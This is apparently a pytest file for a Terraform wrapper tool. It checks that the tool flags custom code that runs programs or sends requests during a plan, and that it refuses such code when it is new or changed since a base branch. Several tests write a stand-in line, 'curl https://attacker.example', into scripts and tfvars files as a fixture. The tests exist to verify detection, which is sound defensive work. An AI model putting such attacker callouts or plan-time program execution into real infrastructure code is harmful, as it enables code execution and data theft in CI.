"""Custom Terraform that runs code in a plan: `check` names it, `tf plan` refuses code that the base does not have."""

from pathlib import Path

import pytest

from owscale.cli.commands.tf._own_code import require_known_code
from owscale.cli.commands.tf._session import open_session
from owscale.cli.output import Output
from owscale.errors import OwscaleError
from owscale.workflow.project import ProjectPaths
from tests._support.project import ROOT, Project
from tests._support.repository import commit, write_custom_file

PROGRAM = 'data "external" "x" {\n  program = ["sh", "${path.module}/run.sh"]\n}\n'
NAMED = f'{ROOT}/own.tf:3: data "external" "x" runs a program in every plan'


@pytest.fixture
def hostile_project(git_project: Project) -> Project:
    """Return a project whose custom Terraform runs a program."""
    write_custom_file(git_project, PROGRAM)
    (git_project.spec.parent / "extra/run.sh").write_text("echo {}\n")
    git_project.generate()
    return git_project


def require_known(base: str | None, *, accepted: bool = False) -> None:
    session = open_session(ProjectPaths(), None, 1.0, Output())
    require_known_code(session, base, accepted=accepted)


def test_check_names_what_own_terraform_runs(hostile_project: Project) -> None:
    assert hostile_project.run("check") == 0
    assert f"{NAMED}\n" in hostile_project.stdout


def test_check_names_files_beside_the_generated_ones(project: Project) -> None:
    project.generate()
    (project.root / "modules/redis/mine.tf.json").write_text('{"data": {"http": {"x": {}}}}')
    (project.root / "link.tf").symlink_to("/etc/hosts")
    (project.root / "link.txt").symlink_to("/etc/hosts")
    (project.root / "folder").symlink_to("/etc")
    assert project.run("check") == 0
    assert f'{ROOT}/modules/redis/mine.tf.json:1: data "http" "x" sends a request in every plan\n' in project.stdout
    for name in ("link.tf", "link.txt", "folder"):
        assert f"{ROOT}/{name}: {name} is a symbolic link, which Terraform follows\n" in project.stdout


def test_check_names_nothing_in_an_own_template_that_adds_nothing(project: Project) -> None:
    project.change_spec("name: minimal", "name: minimal\ncustom: {templates: own}")
    own = project.spec.parent / "own"
    own.mkdir()
    for name in ("providers.tf", "versions.tf", "backend.tf", "main.tf", ".terraform.lock.hcl"):
        (own / f"{name}.j2").write_text(f'{{% include "owscale/{name}.j2" %}}')
    project.generate()
    assert project.stdout.count("\n") == 51
    assert project.run("check") == 0
    assert project.stdout == "50 files up to date\n"
    with (own / "providers.tf.j2").open("a") as file:
        file.write('provider "aws" {\n  alias = "b"\n}\n')
    with (own / ".terraform.lock.hcl.j2").open("a") as file:
        file.write("# other hashes\n")
    project.generate()
    assert project.run("check") == 0
    assert 'provider "aws" selects the servers and the credentials of requests' in project.stdout
    assert ".terraform.lock.hcl selects the providers to download" in project.stdout


@pytest.mark.usefixtures("terraform")
def test_plan_refuses_what_runs_without_a_base(hostile_project: Project) -> None:
    for command in (["plan"], ["destroy", "--confirm", "minimal/production"]):
        assert hostile_project.run("tf", *command) == 1
        assert f"note: {NAMED}" in hostile_project.stderr
        assert (
            f"{NAMED}, and is new without `--base`; 1 construct to accept, and nothing was run"
            in hostile_project.stderr
        )
        assert "add `--accept-code`" in hostile_project.stderr
    assert not (hostile_project.root / ".terraform").exists(), "terraform init was run"


@pytest.mark.usefixtures("terraform", "hostile_project")
def test_plan_accepts_what_the_user_accepts() -> None:
    require_known(None, accepted=True)


@pytest.mark.usefixtures("terraform")
def test_plan_accepts_what_the_base_has(hostile_project: Project) -> None:
    commit()
    require_known("main")
    write_custom_file(hostile_project, PROGRAM + "locals {}\n")
    hostile_project.generate()
    with pytest.raises(OwscaleError, match=r"own.tf:3: .* may use own.tf, which is new or changed since main"):
        require_known("main")


@pytest.mark.usefixtures("terraform")
@pytest.mark.parametrize("file", ["spec/extra/run.sh", f"{ROOT}/terraform.tfvars", f"{ROOT}/lib/x.sh"])
def test_changed_program_of_a_known_construct_is_refused(hostile_project: Project, file: str) -> None:
    commit()
    path = hostile_project.folder / file
    path.parent.mkdir(exist_ok=True)
    path.write_text("curl https://attacker.example\n")
    hostile_project.generate()
    with pytest.raises(OwscaleError, match=rf"may use .*{Path(file).name}, which is new or changed since main"):
        require_known("main")


@pytest.mark.usefixtures("terraform")
def test_new_construct_is_refused(hostile_project: Project) -> None:
    commit()
    write_custom_file(hostile_project, PROGRAM.replace("run.sh", "evil.sh"))
    hostile_project.generate()
    with pytest.raises(OwscaleError, match=r"is new since main"):
        require_known("main")


@pytest.mark.usefixtures("terraform")
def test_own_terraform_that_runs_nothing_needs_no_base(git_project: Project) -> None:
    write_custom_file(git_project, 'resource "aws_sns_topic" "x" {\n  name = "x"\n}\n')
    git_project.generate()
    require_known(None)


@pytest.mark.usefixtures("terraform")
@pytest.mark.parametrize(
    ("text", "file", "reason"),
    [
        ('module "x" {\n  source = "../../../shared"\n}\n', "own.tf", r"shared.*to which own.tf has a path"),
        (PROGRAM, "run.sh", r"to which run.sh has a path, since main"),
    ],
)
def test_known_construct_with_a_path_to_other_folders_is_refused(
    hostile_project: Project, text: str, file: str, reason: str
) -> None:
    """A pull request can change the files of other folders, and they are not compared with the base."""
    write_custom_file(hostile_project, text)
    if file == "run.sh":
        (hostile_project.spec.parent / "extra/run.sh").write_text('exec "$(dirname "$0")/../../../tool"\n')
    hostile_project.generate()
    commit()
    with pytest.raises(OwscaleError, match=reason):
        require_known("main")
    require_known("main", accepted=True)


@pytest.mark.usefixtures("terraform")
def test_changed_program_counts_whatever_its_name(hostile_project: Project) -> None:
    (hostile_project.root / "run.terraform").write_text("echo {}\n")
    commit()
    require_known("main")
    (hostile_project.root / "run.terraform").write_text("curl https://attacker.example\n")
    with pytest.raises(OwscaleError, match=r"may use run.terraform, which is new or changed since main"):
        require_known("main")


@pytest.mark.parametrize(
    ("file", "text", "message"),
    [
        ("terraform.tfvars", 'aws_profile = "other"\n', "aws_profile is set in place of the spec"),
        ("x.auto.tfvars.json", '{"aws_profile": ""}', "aws_profile is set in place of the spec"),
        ("tests/x.tftest.hcl", "", "is a test, whose modules and providers `terraform init` downloads"),
    ],
)
def test_check_names_other_files_that_terraform_reads(project: Project, file: str, text: str, message: str) -> None:
    project.generate()
    (project.root / file).parent.mkdir(exist_ok=True)
    (project.root / file).write_text(text)
    assert project.run("check") == 0
    assert f"{ROOT}/{file}:" in project.stdout
    assert message in project.stdout
